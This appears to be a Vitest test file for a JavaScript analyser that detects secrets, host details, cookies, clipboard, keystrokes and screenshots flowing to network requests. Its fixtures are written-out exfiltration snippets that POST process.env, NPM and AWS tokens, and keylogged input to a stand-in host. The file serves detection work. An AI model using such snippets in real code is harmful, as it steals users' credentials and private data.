import { describe, expect, test } from "vitest";
import { foundIn } from "./found-in.ts";

const send = (value: string) => `fetch("https://a.test", { method: "POST", body: ${value} });`;

describe("the environment", () => {
  test.each([
    send("JSON.stringify(process.env)"),
    send("JSON.stringify({ ...process.env })"),
    `const all = Object.assign({}, process.env); ${send("JSON.stringify(all)")}`,
    send("Object.entries(process.env).map(([k, v]) => k + v).join()"),
    send("Object.keys(process.env).map((k) => process.env[k]).join()"),
    `let s = ""; for (const k in process.env) s += process.env[k]; ${send("s")}`,
    `const { env } = process; ${send("JSON.stringify(env)")}`,
    `const p = globalThis["process"]; ${send("JSON.stringify(p.env)")}`,
    `for (const name of Object.keys(Deno.env.toObject())) { ${send("Deno.env.get(name)")} }`,
    `require("axios").post("https://a.test", process.env);`,
    `require("axios").post("https://a.test", { e: process.env });`,
    send("JSON.stringify(Bun.env)"),
  ])("as a whole: %s", (code) => {
    expect(foundIn(code).flows).toContain("src.env.bulk -> snk.net:body");
  });

  test.each([
    `process.env = { ...process.env, MODE: "x" }; ${send("process.env.SDK_ROOT")}`,
    `const env = require("env-var").from(process.env); ${send(`env.get("SDK_ROOT").asString()`)}`,
    `exports.ask = (name) => { ${send("Deno.env.get(name)")} };`,
    `exports.ask = async (identify) => { const who = await identify(process.env); ${send("who")} };`,
    `class A { constructor(who) { this.who = who; } async go() { const it = await this.who(process.env); ${send("it")} } } exports.A = A;`,
  ])("of which one variable goes out: %s", (code) => {
    expect(foundIn(code).flows).not.toContain("src.env.bulk -> snk.net:body");
  });

  test("put in place of itself stays what it is", () => {
    const code = `process.env = { ...process.env, MODE: "x" }; ${send("JSON.stringify(process.env)")}`;
    expect(foundIn(code).flows).toContain("src.env.bulk -> snk.net:body");
  });

  test.each([
    `const env = process.env; if (env.CI) console.log(env.TERM);`,
    `if ("CI" in process.env) console.log("ci");`,
    `const { NODE_ENV, PORT } = process.env; console.log(NODE_ENV, PORT);`,
    `function f(env = process.env) { return env.NO_COLOR; } f();`,
    `process.env.FOO = "1";`,
    `delete process.env.FOO;`,
  ])("by name only: %s", (code) => {
    expect(foundIn(code).kinds).not.toContain("src.env.bulk");
  });

  test.each([
    ["process.env.NPM_TOKEN", "NPM_TOKEN"],
    [`process.env["GITHUB_" + "TOKEN"]`, "GITHUB_TOKEN"],
    [`require("process").env.AWS_SECRET_ACCESS_KEY`, "AWS_SECRET_ACCESS_KEY"],
    [`Deno.env.get("NPM_TOKEN")`, "NPM_TOKEN"],
    [`((e) => e.NPM_TOKEN)(process.env)`, "NPM_TOKEN"],
  ])("%s is the secret %s", (code, name) => {
    const found = foundIn(send(code));
    expect(found.atoms).toContain(`src.env.secret [${name}]`);
    expect(found.flows).toContain("src.env.secret -> snk.net:body");
  });

  test.each([
    "process.env.NODE_ENV",
    "process.env.TOKENIZER_MODE",
    "process.env.AUTHOR",
    "process.env.CI",
  ])("%s is none", (code) =>
    expect(foundIn(send(code)).flows.filter((flow) => flow.startsWith("src.env.secret"))).toEqual(
      [],
    ),
  );
});

describe("the machine and its user", () => {
  test.each([
    [`require("os").hostname()`, "src.host [hostname]"],
    [`require("os").userInfo().username`, "src.host [username]"],
    [`require("os").networkInterfaces()`, "src.host [network]"],
    [`await (await fetch("https://api.ipify.org")).text()`, "src.host [public-ip]"],
    [`require("node-machine-id").machineIdSync()`, "src.host [machine-id]"],
  ])("%s", (code, expected) => {
    const found = foundIn(send(`String(${code})`));
    expect(found.atoms).toContain(expected);
    expect(found.flows).toContain("src.host -> snk.net:body");
  });

  test("where the home folder is stays at home", () => {
    const found = foundIn(
      `const os = require("os"); require("path").join(os.homedir(), ".x"); console.log(os.platform(), os.EOL);`,
    );
    expect(found.flows.filter((flow) => flow.includes("snk.net"))).toEqual([]);
  });
});

describe("what people see, type and copy", () => {
  test.each([
    [`document.cookie`, "src.dom -> snk.net:body"],
    [`localStorage.getItem("session")`, "src.dom -> snk.net:body"],
    [`document.querySelector("#card").value`, "src.dom -> snk.net:body"],
    [`await navigator.clipboard.readText()`, "src.clipboard -> snk.net:body"],
    [`require("clipboardy").readSync()`, "src.clipboard -> snk.net:body"],
    [`await require("screenshot-desktop")()`, "src.screen -> snk.net:body"],
    [`await require("keytar").getPassword("a", "b")`, "src.file.secret -> snk.net:body"],
  ])("%s", (code, flow) => expect(foundIn(send(code)).flows).toContain(flow));

  test("keys", () => {
    const found = foundIn(
      `let keys = ""; document.addEventListener("keydown", (e) => { keys += e.key; ${send("keys")} });`,
    );
    expect(found.flows).toContain("src.keys -> snk.net:body");
    const none = foundIn(`document.addEventListener("click", (e) => { ${send("'clicked'")} });`);
    expect(none.kinds).not.toContain("src.keys");
  });
});

describe("what a value went through", () => {
  test.each([
    [send(`Buffer.from(process.env.NPM_TOKEN).toString("base64")`), "encode"],
    [send(`btoa(process.env.NPM_TOKEN)`), "encode"],
    [send(`require("zlib").gzipSync(process.env.NPM_TOKEN)`), "encode"],
    [
      `const c = require("crypto").createCipheriv("aes-256-gcm", "k", "i"); ${send(`c.update(process.env.NPM_TOKEN, "utf8", "hex")`)}`,
      "encode",
    ],
  ])("%s", (code, transform) => expect(foundIn(code).through).toContain(transform));
});

describe("capabilities", () => {
  test.each([
    [`fetch("https://a.test")`, "network.out a.test"],
    [`module.exports = (u) => fetch(u)`, "network.out *"],
    [`require("http").createServer(() => {}).listen(1)`, "network.in "],
    [`require("fs").readFileSync("a")`, "fs.read "],
    [`require("fs").writeFileSync("a", "b")`, "fs.write "],
    [`process.env.MY_MODE`, "env MY_MODE"],
    [`process.env.NPM_TOKEN`, "secret NPM_TOKEN"],
    [`JSON.stringify(process.env)`, "env.bulk "],
    [`require("child_process").exec("make")`, "subprocess make"],
    [`eval("1")`, "dynamicCode "],
    [`process.dlopen(module, "a")`, "native "],
    [`WebAssembly.instantiate(new Uint8Array(8))`, "wasm "],
    [`module.exports = (c) => eval(c)`, "unknown dynamic-code"],
  ])("%s can %s", (code, use) => expect(foundIn(code).uses).toContain(use));

  test.each([
    `process.env.NODE_ENV`,
    `require("path").join("a", "b")`,
    `JSON.parse("{}")`,
    `process.cwd()`,
  ])("%s can nothing", (code) => {
    expect(foundIn(code).uses).toEqual([]);
  });
});

test("where a scope is published to is no secret, and the token for it is", () => {
  const settings = `const all = require("rc")("npm", {}); const url = require("registry-auth-token/registry-url")("@acme", all);`;
  expect(foundIn(`${settings} ${send("url")}`).flows).toEqual([]);
  expect(foundIn(`${settings} ${send('require("registry-auth-token")(url).token')}`).flows).toEqual(
    ["src.file.secret -> snk.net:body"],
  );
});
